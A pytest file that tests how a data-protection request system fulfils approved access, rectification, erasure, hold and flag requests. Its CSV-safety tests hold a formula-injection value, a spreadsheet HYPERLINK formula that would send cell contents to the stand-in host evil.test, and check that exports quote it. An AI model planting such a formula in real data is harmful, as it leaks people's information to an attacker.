"""Approval carries out what the letter says: the data attached, the record corrected, erased, held or flagged."""

from __future__ import annotations

import csv
import io
import json
import re
import smtplib
import time
from email.message import Message as EmailMessage
from pathlib import Path

import pytest
from sqlmodel import select

from intake import db, review, store
from intake import settings as settings_module
from intake.errors import TransitionError
from intake.fulfil import holds
from intake.identity import records
from intake.identity.records.tables import SubjectFlag
from intake.models import Case, Draft, Event, Outbox
from intake.run import worker
from intake.settings import Settings
from tests.conftest import ORGANISATION_TOML, Service, Sink, link_subject

JANE = {
    "subject_id": "S-JANE",
    "name": "Jane Doe",
    "email": "jane@example.com",
    "phone": "+44 20 7946 0958",
    "employer": "Acme Ltd",
    "role": "customer_contact",
    "account_status": "active",
    "status_changed_at": "2025-01-10",
    "address": "1 Old Street, Leeds",
    "account_id": "CUST-4711",
    "plan": "team",
}
REQUEST = (
    b"From: Jane Doe <jane@example.com>\r\nTo: dpo@example.org\r\nMessage-ID: <req-1@example.com>\r\n"
    b"Subject: My data\r\n\r\nI am Jane Doe and I work at Acme Ltd. Please send me a copy of my personal data.\r\n"
)


def _case(settings: Settings, record: dict[str, str] | None = None) -> str:
    """A request from Jane, its case verified as hers (the subject linked) when `record` is given."""
    with db.session(settings.database_url) as s:
        store.put(s, REQUEST, mailbox="smtp", source="smtp", envelope_from="jane@example.com")
    worker.drain(settings)
    with db.session(settings.database_url) as s:
        ref = s.exec(select(Case)).one().reference
    if record is not None:
        link_subject(settings.database_url, ref, record)
        with db.session(settings.database_url) as s:
            review.flag(s, ref, "identity_checked", "alice")
    return ref


def _approve_only(settings: Settings, ref: str, template: str, **context: object) -> Draft:
    """Discard the case's other drafts, draft `template` and approve it; returns the approved draft."""
    with db.session(settings.database_url) as s:
        for d in review.drafts(s, review.load(s, ref)):
            d.status = "discarded"
            s.add(d)
        s.commit()
        draft = review.reply(s, settings, ref, template, "alice", **context)
        review.approve(s, settings, ref, "alice")
        return s.get(Draft, draft.id)  # type: ignore[return-value]


def _mail(settings: Settings, draft: Draft) -> EmailMessage:
    from email import message_from_bytes
    from email.policy import default

    with db.session(settings.database_url) as s:
        row = s.get(Outbox, draft.outbox_id)
        assert row is not None
        return message_from_bytes(row.raw, policy=default)  # type: ignore[return-value]


def _files(msg: EmailMessage) -> dict[str, bytes]:
    return {part.get_filename(): part.get_payload(decode=True) for part in msg.iter_attachments()}  # type: ignore[misc]


def _expected(record: dict[str, str]) -> dict[str, str]:
    """The record as the export flattens it: the fields, then the organisation's extra attributes."""
    return {k: v for k, v in record.items()}


def test_an_approved_access_reply_carries_the_record_as_json_csv_and_a_summary(settings: Settings) -> None:
    ref = _case(settings, JANE)
    draft = _approve_only(settings, ref, "access")
    msg = _mail(settings, draft)
    files = _files(msg)
    assert sorted(files) == ["personal-data.csv", "personal-data.json"]
    assert json.loads(files["personal-data.json"]) == _expected(JANE)
    rows = list(csv.DictReader(io.StringIO(files["personal-data.csv"].decode("utf-8-sig"))))
    assert rows == [_expected(JANE)]
    text = msg.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    # The Art. 15 information from [organisation], and the summary in the letter's language.
    assert "To provide you with access to MAssist's services" in text and "sub-processors" in text
    assert "- postal address: 1 Old Street, Leeds" in text and "- plan: team" in text
    exported = [e for e in _events(settings, "fulfil.exported")]
    assert exported and exported[0].detail["files"] == ["personal-data.csv", "personal-data.json"]
    assert "Leeds" not in json.dumps(exported[0].detail)  # the audit keeps ids and counts, never the data


def test_the_data_is_taken_at_approval_not_when_drafted(settings: Settings) -> None:
    ref = _case(settings, JANE)
    with db.session(settings.database_url) as s:
        draft = review.reply(s, settings, ref, "portability", "alice")
        record = records.get(s, "S-JANE")
        assert record is not None
        record["address"] = "9 Later Road, York"
        records.put(s, record)
        s.commit()
        for d in review.drafts(s, review.load(s, ref)):
            if d.id != draft.id:
                d.status = "discarded"
                s.add(d)
        s.commit()
        review.approve(s, settings, ref, "alice")
        draft = s.get(Draft, draft.id)  # type: ignore[assignment]
    assert json.loads(_files(_mail(settings, draft))["personal-data.json"])["address"] == "9 Later Road, York"


def test_nothing_is_attached_for_a_requester_who_is_not_a_verified_subject(settings: Settings) -> None:
    ref = _case(settings)  # identity checked by the DPO, but no record linked
    with db.session(settings.database_url) as s:
        review.flag(s, ref, "identity_checked", "alice")
        review.reply(s, settings, ref, "access", "alice")
        with pytest.raises(TransitionError, match="no verified subject"):
            review.approve(s, settings, ref, "alice")
        assert s.exec(select(Outbox).where(Outbox.purpose == "access")).first() is None


def test_access_is_refused_until_the_organisation_fills_in_the_art_15_information(
    settings: Settings, tmp_path: Path
) -> None:
    ref = _case(settings, JANE)
    env = {"INTAKE_DATABASE_URL": settings.database_url, "INTAKE_VAR_DIR": settings.var_dir}
    bare = settings_module.load(None, env={**env, "INTAKE_CONFIG": str(tmp_path / "absent.toml")})
    with db.session(settings.database_url) as s:
        review.reply(s, bare, ref, "access", "alice")
        with pytest.raises(TransitionError, match=r"\[organisation\] purposes"):
            review.approve(s, bare, ref, "alice")


def _events(settings: Settings, action: str) -> list[Event]:
    with db.session(settings.database_url) as s:
        return list(s.exec(select(Event).where(Event.action == action)).all())


def test_rectification_changes_the_record_on_approval_and_the_letter_shows_old_and_new(settings: Settings) -> None:
    ref = _case(settings, JANE)
    with db.session(settings.database_url) as s:
        for d in review.drafts(s, review.load(s, ref)):
            d.status = "discarded"
            s.add(d)
        s.commit()
        review.reply(s, settings, ref, "rectification", "alice")
        # The request stated nothing different from the record: the letter would promise a change that is not made.
        with pytest.raises(TransitionError, match="nothing is to change"):
            review.approve(s, settings, ref, "alice")
        draft = review.rectify(s, settings, ref, {"address": "2 New Street, Leeds"}, "alice")
        assert "postal address: 1 Old Street, Leeds → 2 New Street, Leeds" in " ".join(draft.body.split())
        review.approve(s, settings, ref, "alice")
        assert records.get(s, "S-JANE")["address"] == "2 New Street, Leeds"  # type: ignore[index]
    assert [e.detail["fields"] for e in _events(settings, "fulfil.rectified")] == [["address"]]


def test_rectification_proposes_what_the_request_states_differently(settings: Settings) -> None:
    ref = _case(settings, JANE)
    with db.session(settings.database_url) as s:
        case = review.load(s, ref)
        case.extraction = {**(case.extraction or {}), "address": "5 Moved Lane, Hull", "name": "jane  doe"}
        s.add(case)
        s.commit()
        draft = review.reply(s, settings, ref, "rectification", "alice")
    assert draft.plan == {"changes": [{"field": "address", "old": "1 Old Street, Leeds", "new": "5 Moved Lane, Hull"}]}


EVIL = '=HYPERLINK("http://evil.test/?x="&A1,"12 New Street"), London SW1A 1AA'


def test_a_csv_cell_that_a_spreadsheet_would_run_is_quoted() -> None:
    from intake.fulfil import exports

    data = {"address": "=1+1", "name": "@SUM(A1)", "phone": "+44 20 7946 0958", "note": "-2+3", "city": "Leeds"}
    header, row = csv.reader(io.StringIO(exports.as_csv(data).decode().lstrip("\ufeff")))
    assert row == ["'=1+1", "'@SUM(A1)", "+44 20 7946 0958", "'-2+3", "Leeds"] and header == list(data)
    assert [c for c in row if c.startswith(("=", "@", "-"))] == []  # a phone number runs nothing: it stays as it is


def test_a_rectification_to_a_formula_is_shown_to_the_dpo_stored_as_written_and_quoted_in_every_csv(
    settings: Settings, tmp_path: Path
) -> None:
    from starlette.testclient import TestClient

    from intake.fulfil import exports
    from intake.web.app import create_app
    from intake.web.config import WebConfig

    ref = _case(settings, JANE)
    with db.session(settings.database_url) as s:
        case = review.load(s, ref)
        case.extraction = {**(case.extraction or {}), "address": EVIL, "phones": ["+44 20 7946 0000"]}
        s.add(case)
        for d in review.drafts(s, case):
            d.status = "discarded"
            s.add(d)
        s.commit()
        draft = review.reply(s, settings, ref, "rectification", "alice")
        assert {c["field"]: c.get("formula", False) for c in draft.plan["changes"]} == {"phone": False, "address": True}  # type: ignore[index]
        assert "formula_in_rectification" in review.load(s, ref).flags  # the phone's + is no formula
    web = TestClient(create_app(settings, WebConfig(password="a long password")), base_url="http://127.0.0.1")
    login = web.get("/login?again=1").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', login).group(1)  # type: ignore[union-attr]
    web.post("/login", data={"name": "alice", "password": "a long password", "csrf": csrf, "next": "/"})
    page = web.get(f"/cases/{ref}").text
    assert "The new address begins like a spreadsheet formula" in page and "formula_in_rectification" in page
    with db.session(settings.database_url) as s:
        review.approve(s, settings, ref, "alice")
        record = records.get(s, "S-JANE")
        assert record is not None and record["address"] == EVIL  # the records hold what the DPO approved
        out = io.StringIO()
        records.export(s, out, "csv")
    cells = dict(zip(*csv.reader(io.StringIO(out.getvalue())), strict=True))
    assert cells["address"] == "'" + EVIL and cells["phone"] == "+44 20 7946 0000"
    (mine,) = list(csv.reader(io.StringIO(exports.as_csv(exports.flat(record)).decode())))[1:]
    assert "'" + EVIL in mine and EVIL not in mine  # the requester's personal-data.csv
    again = tmp_path / "again.csv"
    again.write_text(out.getvalue(), encoding="utf-8")
    other = f"sqlite:///{tmp_path}/other.db"
    db.upgrade(other)
    with db.session(other) as s2:
        assert records.import_file(s2, again).inserted == 1
        back = records.get(s2, "S-JANE")
    assert back is not None and back["address"] == EVIL and back["phone"] == "+44 20 7946 0000"  # read back as written


OTHER = {**JANE, "role": "other"}


def test_erasure_deletes_the_record_and_leaves_a_tombstone_flag(settings: Settings) -> None:
    ref = _case(settings, OTHER)
    draft = _approve_only(settings, ref, "erasure")
    assert "We have erased your personal data." in draft.body
    with db.session(settings.database_url) as s:
        assert records.get(s, "S-JANE") is None
        flags = s.exec(select(SubjectFlag).where(SubjectFlag.subject_id == "S-JANE")).all()
        assert [(f.flag, f.case_reference) for f in flags] == [("erased", ref)]


def test_erasure_keeps_the_statutory_fields_and_the_letter_says_why(settings: Settings, tmp_path: Path) -> None:
    toml = tmp_path / "intake.toml"
    toml.write_text(
        ORGANISATION_TOML.read_text().replace(
            "statutory = []", 'statutory = ["account_id: invoices, kept 10 years under tax law"]'
        )
    )
    kept = settings_module.load(
        None,
        env={
            "INTAKE_DATABASE_URL": settings.database_url,
            "INTAKE_VAR_DIR": settings.var_dir,
            "INTAKE_CONFIG": str(toml),
        },
    )
    ref = _case(settings, OTHER)
    draft = _approve_only(kept, ref, "erasure")
    assert "- account number: invoices, kept 10 years under tax law" in draft.body
    with db.session(settings.database_url) as s:
        record = records.get(s, "S-JANE")
    assert record is not None and record["account_id"] == "CUST-4711"
    assert record["name"] is None and record["email"] is None and record["attributes"] == {}


def test_a_legal_hold_keeps_the_record_and_a_hold_placed_after_the_draft_stops_its_approval(
    settings: Settings,
) -> None:
    ref = _case(settings, OTHER)
    with db.session(settings.database_url) as s:
        for d in review.drafts(s, review.load(s, ref)):
            d.status = "discarded"
            s.add(d)
        s.commit()
        review.reply(s, settings, ref, "erasure", "alice")
        holds.place(s, "S-JANE", "claim 2026/17 pending", "alice")
        with pytest.raises(TransitionError, match="changed since it was drafted"):
            review.approve(s, settings, ref, "alice")
    draft = _approve_only(settings, ref, "erasure")
    assert "We must keep your personal data for now" in " ".join(draft.body.split())
    assert "claim 2026/17" not in draft.body  # the DPO's reason stays internal
    with db.session(settings.database_url) as s:
        assert records.get(s, "S-JANE") is not None


def test_a_customer_contacts_erasure_expires_the_account_and_the_purge_removes_it_on_the_date_given(
    settings: Settings,
) -> None:
    from datetime import UTC, date, datetime, timedelta

    from intake.fulfil import purge

    ref = _case(settings, JANE)
    draft = _approve_only(settings, ref, "erasure")
    from intake.letters.dates import long_date

    # The letter gives the date in its language; the stored template values keep it as an ISO date.
    on = date.fromisoformat((draft.template_values or {})["removal_date"])
    assert f"removed on {long_date(on, 'en')}" in " ".join(draft.body.split())
    with db.session(settings.database_url) as s:
        assert records.get(s, "S-JANE")["account_status"] == "expired"  # type: ignore[index]
        day_before = datetime.combine(on - timedelta(days=1), datetime.min.time(), UTC)
        assert purge.purge(s, settings, now=day_before).expired_removed == 0
        assert purge.purge(s, settings, now=day_before + timedelta(days=1)).expired_removed == 1
        assert records.get(s, "S-JANE") is None


@pytest.mark.parametrize(
    ("template", "flag"),
    [
        ("restriction", "restricted"),
        ("objection", "objected"),
        ("consent_withdrawal", "consent_withdrawn"),
        ("opt_out_sale", "opted_out_of_sale"),
    ],
)
def test_restriction_objection_withdrawal_and_opt_out_flag_the_record_with_date_and_case(
    settings: Settings, template: str, flag: str
) -> None:
    ref = _case(settings, JANE)
    _approve_only(settings, ref, template)
    out = io.StringIO()
    with db.session(settings.database_url) as s:
        records.export(s, out, "jsonl")
    (row,) = [json.loads(line) for line in out.getvalue().splitlines()]
    day, reference = row[f"flag_{flag}"].split()
    assert reference == ref and re.fullmatch(r"\d{4}-\d{2}-\d{2}", day)


def test_intake_approve_takes_several_cases_each_in_its_own_transaction(settings: Settings) -> None:
    from typer.testing import CliRunner

    from intake.cli import app as cli_app
    from intake.cli.app import _state as cli_state

    ref = _case(settings, JANE)
    with db.session(settings.database_url) as s:
        for d in review.drafts(s, review.load(s, ref)):
            d.status = "discarded"
            s.add(d)
        s.commit()
        review.reply(s, settings, ref, "access", "alice")
    cli_state.clear()  # the CLI caches its settings per process
    cli_state["config"] = None
    env = {"INTAKE_DATABASE_URL": settings.database_url, "INTAKE_VAR_DIR": settings.var_dir, "COLUMNS": "200",
           "INTAKE_CONFIG": str(ORGANISATION_TOML)}  # fmt: skip
    refused = CliRunner().invoke(cli_app, ["approve", ref, "DPO-2026-999999-9", "--draft", "1"], env=env)
    assert "--draft and --override-check concern one case" in str(refused.exception)
    with db.session(settings.database_url) as s:
        assert s.exec(select(Outbox).where(Outbox.purpose == "access")).first() is None
    done = CliRunner().invoke(cli_app, ["approve", ref, "DPO-2026-999999-9"], env=env)
    assert "DPO-2026-999999-9" in str(done.exception)  # the CLI's main() prints it as one line
    with db.session(settings.database_url) as s:  # the first stays approved although the second was refused
        assert s.exec(select(Outbox).where(Outbox.purpose == "access")).first() is not None


def test_the_export_of_a_live_source_lists_the_flags_of_subjects_whose_records_intake_does_not_hold(
    settings: Settings,
) -> None:
    """Live mode keeps the records in the organisation's database: the flags are intake's, and must still show."""
    from datetime import date

    with db.session(settings.database_url) as s:
        records.put(s, {**JANE, "subject_id": "S-HELD"})
        s.add(SubjectFlag(subject_id="C-9", flag="restricted", set_on=date(2026, 12, 1), case_reference="DPO-X"))
        s.commit()
        own, live, table = io.StringIO(), io.StringIO(), io.StringIO()
        assert records.export(s, own) == 1  # intake's own table: its records only
        assert records.export(s, live, unrecorded=True) == 2
        records.export(s, table, "csv", unrecorded=True)
    assert [json.loads(line)["subject_id"] for line in own.getvalue().splitlines()] == ["S-HELD"]
    assert json.loads(live.getvalue().splitlines()[1]) == {"subject_id": "C-9", "flag_restricted": "2026-12-01 DPO-X"}
    rows = list(csv.DictReader(io.StringIO(table.getvalue())))
    assert (rows[1]["subject_id"], rows[1]["flag_restricted"], rows[1]["name"]) == ("C-9", "2026-12-01 DPO-X", "")


def test_over_smtp_the_verified_requester_receives_the_records_data_as_attachments(
    service: Service, sink: tuple[Sink, int], tmp_path: Path
) -> None:
    """The issue's path end to end: request over SMTP → confirmed by the address on record → DPO approves → the
    sink receives the access letter with personal-data.json and .csv equal to the record."""
    from tests.test_confirmation import CODE, HOME, RECORD, RECORDS, _texts
    from tests.test_confirmation import REQUEST as ANNA
    from tests.test_confirmation import _mail as mail

    box, _ = sink
    service.start()
    anna = {**RECORDS[0], "plan": "pro"}
    path = tmp_path / "subjects.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in [anna, RECORDS[1]]), encoding="utf-8")
    assert service.cli("subjects", "import", str(path)).returncode == 0
    with smtplib.SMTP("127.0.0.1", service.smtp_port, timeout=10) as client:
        client.sendmail(HOME, ["dpo@example.org"], mail(f"Anna Berg <{HOME}>", ANNA))
    question = next(m for r, m in _texts(box, 2) if r == RECORD)
    code = CODE.search(question.get_body(("plain",)).get_content())  # type: ignore[union-attr]
    assert code is not None
    reply = mail(
        RECORD,
        f"Yes, that was me.\n\n> {code.group(1)}",
        subject=f"Re: {question['Subject']}",
        mid="<yes@acme.example>",
        extra=f"In-Reply-To: {question['Message-ID']}\r\n",
    )
    with smtplib.SMTP("127.0.0.1", service.smtp_port, timeout=10) as client:
        client.sendmail(RECORD, ["dpo@example.org"], reply)
    url = service.env["INTAKE_DATABASE_URL"]
    reference = None
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and reference is None:
        with db.session(url) as s:
            draft = s.exec(select(Draft).where(Draft.template == "access", Draft.status == "draft")).first()
            case = s.get(Case, draft.case_id) if draft else None
            reference = case.reference if case and case.subject_id else None
        time.sleep(0.2)
    assert reference is not None, service.log.read_text()[-2000:]
    approved = service.cli("--as", "A. DPO", "approve", reference)
    assert approved.returncode == 0, approved.stdout + approved.stderr
    ((to, answer),) = _texts(box, 3)[2:]
    assert to == HOME
    files = _files(answer)
    assert json.loads(files["personal-data.json"]) == anna
    assert list(csv.DictReader(io.StringIO(files["personal-data.csv"].decode("utf-8-sig")))) == [anna]
